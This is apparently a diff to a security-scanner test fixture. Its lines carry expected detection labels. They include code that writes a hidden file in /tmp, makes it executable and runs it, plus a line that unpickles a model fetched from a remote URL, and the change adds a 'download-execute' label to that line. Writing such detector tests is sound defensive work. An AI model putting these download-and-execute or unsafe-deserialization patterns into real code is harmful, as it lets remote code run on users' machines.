@@ -21,4 +21,4 @@ with open("/tmp/.cache-helper", "wb") as handle:
 os.chmod("/tmp/.cache-helper", stat.S_IRWXU)  # expect: download-execute
 subprocess.Popen(["/tmp/.cache-helper"])  # expect: download-execute
 
-model = pickle.loads(urllib.request.urlopen("https://cdn.example-updates.net/model.pkl").read())  # expect: unsafe-deserialization
+model = pickle.loads(urllib.request.urlopen("https://cdn.example-updates.net/model.pkl").read())  # expect: unsafe-deserialization, download-execute
